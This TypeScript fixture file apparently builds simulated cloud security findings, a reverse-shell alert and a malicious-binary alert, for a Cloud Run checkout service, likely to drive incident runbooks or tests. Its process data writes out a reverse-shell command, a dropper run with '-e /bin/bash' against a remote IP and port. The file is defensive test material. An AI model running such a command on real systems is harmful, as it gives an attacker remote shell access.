import { cloudRunFinding, virusTotalLink, wholeFile } from './findings.ts';
import type { FindingWithResource } from './findings.ts';
import { hashes } from './indicators.ts';
import { checkout } from './services.ts';

const dropperPath = '/tmp/.cache/upd';
const dropper = wholeFile(dropperPath, 48_216, hashes.dropper);
const imageUri = `${checkout.image}@${checkout.badDigest}`;
const { ip, port } = checkout.remote;
/** The container's own address: a documentation range too. */
const local = { ip: '192.0.2.17', port: 38_114 } as const;

const container = (createTime: number) => ({
  containers: [
    {
      name: 'checkout-api-1',
      uri: imageUri,
      imageId: checkout.badDigest,
      createTime: new Date(createTime).toISOString(),
    },
  ],
});

/** The first runbook's finding: a shell whose standard input is bound to a remote socket. */
export function reverseShell(now: number): FindingWithResource {
  return cloudRunFinding({
    id: '9c41d7e0a35f4b2e8d16f0c2b7a95e13',
    service: checkout.name,
    category: 'Reverse Shell',
    moduleName: 'CLOUD_RUN_REVERSE_SHELL',
    severity: 'CRITICAL',
    description: 'A process started with stream redirection to a remote connected socket.',
    slug: 'reverse-shell',
    eventTime: now - 90_000,
    fields: {
      ...container(now - 25 * 60_000),
      processes: [
        {
          name: 'upd',
          binary: dropper,
          args: [dropperPath, '-e', '/bin/bash', ip, String(port)],
          envVariables: [
            { name: 'LEDGER_PASSWORD', val: 'invented-9f2c-not-a-real-secret' },
            { name: 'PORT', val: '8080' },
          ],
          pid: '212',
          parentPid: '7',
          userId: '1000',
        },
        {
          name: 'bash',
          binary: wholeFile('/bin/bash', 1_396_520, hashes.bash),
          args: ['/bin/bash', '-i'],
          pid: '213',
          parentPid: '212',
          userId: '1000',
        },
      ],
      connections: [
        { destinationIp: ip, destinationPort: port, sourceIp: local.ip, sourcePort: local.port, protocol: 'TCP' },
      ],
      indicator: { ipAddresses: [ip] },
      mitreAttack: {
        primaryTactic: 'EXECUTION',
        primaryTechniques: ['COMMAND_AND_SCRIPTING_INTERPRETER'],
        additionalTactics: ['COMMAND_AND_CONTROL'],
        additionalTechniques: ['INGRESS_TOOL_TRANSFER'],
      },
      sourceProperties: {
        Reverse_Shell_Stdin_Redirection_Dst_Ip: ip,
        Reverse_Shell_Stdin_Redirection_Dst_Port: port,
        Reverse_Shell_Stdin_Redirection_Src_Ip: local.ip,
        Reverse_Shell_Stdin_Redirection_Src_Port: local.port,
        Container_Image_Uri: imageUri,
        contextUris: virusTotalLink(hashes.dropper),
      },
    },
  });
}

/** Its sibling, minutes earlier: the binary that opened the shell ran for the first time. It is in SCC only. */
export function addedMaliciousBinary(now: number): FindingWithResource {
  return cloudRunFinding({
    id: '2b8e60f4c1d94a7395ce07d1a64fb820',
    service: checkout.name,
    category: 'Execution: Added Malicious Binary Executed',
    moduleName: 'CLOUD_RUN_ADDED_MALICIOUS_BINARY_EXECUTED',
    severity: 'CRITICAL',
    description:
      'A binary that was not part of the image and that threat intelligence knows as malicious was executed.',
    slug: 'added-malicious-binary-executed',
    eventTime: now - 8 * 60_000,
    fields: {
      ...container(now - 25 * 60_000),
      processes: [
        { name: 'upd', binary: dropper, args: [dropperPath, '--daemon'], pid: '198', parentPid: '7', userId: '1000' },
      ],
      mitreAttack: {
        primaryTactic: 'COMMAND_AND_CONTROL',
        primaryTechniques: ['INGRESS_TOOL_TRANSFER'],
        additionalTactics: ['EXECUTION'],
        additionalTechniques: ['NATIVE_API'],
      },
      sourceProperties: { Container_Image_Uri: imageUri, contextUris: virusTotalLink(hashes.dropper) },
    },
  });
}
